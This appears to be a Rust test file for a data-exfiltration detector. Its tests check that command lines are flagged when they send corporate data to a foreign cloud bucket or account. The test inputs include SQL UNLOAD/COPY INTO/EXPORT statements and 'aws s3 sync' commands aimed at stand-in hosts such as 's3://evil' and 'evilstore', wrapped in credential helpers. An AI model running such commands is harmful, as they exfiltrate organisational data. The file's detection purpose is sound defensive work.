//! Command lines whose words hold blanks: what a database is asked, and what other programs run.

use super::world::*;

fn told(args: &[&str]) -> Told {
    let name: &'static str = args[0].to_owned().leak();
    let path: &'static str = format!("/opt/homebrew/bin/{name}").leak();
    let mut w = World::new();
    w.policy = format!("{CORP}\n{}", include_str!("commands/own.toml"));
    let shell = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
    w.spawn(1.0, &shell, adhoc(path, name), args);
    w.tell()
}

/// The database writes into a bucket by itself: the statement is all that this Mac sees of it.
#[test]
fn statements_that_unload_into_foreign_buckets() {
    for (before, statement, service, tenant) in [
        (
            &["aws", "redshift-data", "execute-statement", "--sql"][..],
            "UNLOAD ('select * from users') TO 's3://BUCKET/u_' IAM_ROLE default",
            "s3",
            ["evil", "corp-backup"],
        ),
        (
            &["aws", "athena", "start-query-execution", "--query-string"],
            "UNLOAD (SELECT * FROM t) TO 's3://BUCKET/x' WITH (format='PARQUET')",
            "s3",
            ["evil", "corp-backup"],
        ),
        (
            &["snowsql", "-c", "prod", "-q"],
            "COPY INTO 's3://BUCKET/x' FROM users CREDENTIALS=(AWS_KEY_ID='x')",
            "s3",
            ["evil", "corp-backup"],
        ),
        (
            &["snow", "sql", "--query"],
            "copy into 'gcs://BUCKET/x' from users",
            "gcs",
            ["evil", "corp-archive"],
        ),
        (
            &["snow", "sql", "-q"],
            "copy into 'azure://BUCKET.blob.core.windows.net/c/x' from users",
            "azure-blob",
            ["evilstore", "corparchive"],
        ),
        (
            &["bq", "query", "--use_legacy_sql=false"],
            "EXPORT DATA OPTIONS(uri='gs://BUCKET/*.csv', format='CSV') AS SELECT 1",
            "gcs",
            ["evil", "corp-archive"],
        ),
        (
            &["psql", "-h", "db.corp.example", "-c"],
            "SELECT aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('BUCKET','x','r'))",
            "s3",
            ["evil", "corp-backup"],
        ),
    ] {
        let line = |bucket: &str| [before, &[&*statement.replace("BUCKET", bucket).leak()]].concat();
        let story = told(&line(tenant[0]));
        let alert = story.alert();
        assert_eq!((alert.service.as_deref(), alert.tenant.as_deref()), (Some(service), Some(tenant[0])));
        assert_eq!(alert.rules[0].id.as_ref(), "cw.transfer.control-plane", "{statement}");
        told(&line(tenant[1])).none();
        let loads = "COPY users FROM 's3://evil/x'; copy into users from 's3://evil/x'; select 1";
        told(&[before, &[loads]].concat()).none();
    }
}

/// Programs that fetch credentials or set up a place to work in, and then run a command.
#[test]
fn what_credential_helpers_run() {
    let script = "aws s3 sync s3://corp-data s3://evil";
    for before in [
        &["aws-vault", "exec", "prod", "--", "sh", "-c"][..],
        &["op", "run", "--", "bash", "-c"],
        &["docker", "compose", "run", "--rm", "tools", "sh", "-c"],
        &["nohup", "aws-vault", "exec", "prod", "--", "sh", "-c"],
    ] {
        assert_eq!(told(&[before, &[script]].concat()).alert().tenant.as_deref(), Some("evil"), "{before:?}");
        told(&[before, &["aws s3 sync s3://corp-data s3://corp-backup"]].concat()).none();
    }
    // What stands in a file, nobody can see.
    let hidden = told(&["aws", "s3api", "put-bucket-policy", "--cli-input-json", "file://policy.json"]);
    assert_eq!((hidden.low().tenant.as_deref(), hidden.low().tenant_verdict.as_str()), (None, "unknown"));
}

/// An entry that has expired names nobody: what goes to its bucket goes to a foreign one.
#[test]
fn an_expired_entry_names_nobody() {
    let story = |expires: &str| {
        let mut w = World::new();
        w.policy = format!(
            "[[allow]]\nname = \"the move\"\nprocess = {{ team_id = \"CORPCORP01\", signing_id = \"com.corp.mover\" }}\n\
             sensitive = \"*\"\nservices = [\"s3\"]\ntenants = [\"partner\"]\nusers = \"*\"\nreason = \"CHG-7\"\nexpires = {expires}\n"
        );
        let line = ["aws", "s3", "sync", "s3://corp-data", "s3://partner"];
        w.launch(1.0, adhoc("/opt/homebrew/bin/aws", "aws"), &line);
        w.tell()
    };
    story("2099-06-30").none();
    let told = story("2020-06-30");
    let alert = told.alert();
    assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (Some("partner"), "foreign"));
}

/// Google keeps accounts for every project, and their names hold the project's number: whose it is, nobody can see.
#[test]
fn a_project_s_number_does_not_tell_whose_it_is() {
    for member in ["123456789012-compute@developer", "service-123456789012@gcp-sa-pubsub.iam"] {
        let member = format!("--member=serviceAccount:{member}.gserviceaccount.com");
        let story = told(&["gcloud", "projects", "add-iam-policy-binding", "corp-prod", &member, "--role=x"]);
        assert_eq!((story.low().tenant.as_deref(), story.low().tenant_verdict.as_str()), (None, "unknown"));
    }
    let both = [
        "gsutil",
        "iam",
        "ch",
        "serviceAccount:123456789012@cloudbuild.gserviceaccount.com:admin",
        "user:eve@example.com:admin",
        "gs://corp-data",
    ];
    assert_eq!(told(&both).alert().tenant.as_deref(), Some("eve@example.com"));
}

/// Of a connection string the account is told, and nothing of the key.
#[test]
fn a_connection_string_is_not_an_account() {
    let line = |account: &str| {
        let given = format!("DefaultEndpointsProtocol=https;AccountName={account};AccountKey=c2VjcmV0a2V5");
        let from = "https://corpstore.blob.core.windows.net/c/b";
        let words = ["az", "storage", "blob", "copy", "start", "--connection-string", &given, "-b", "b"];
        told(&[&words[..], &["-c", "c", "--source-uri", from]].concat())
    };
    let story = line("evilstore");
    assert_eq!(story.alert().tenant.as_deref(), Some("evilstore"));
    for record in &story.records {
        for format in [cloudward::sink::format::text, cloudward::sink::format::ecs] {
            assert!(!format(record).contains("c2VjcmV0a2V5"), "{}", format(record));
        }
    }
    line("corparchive").none();
}
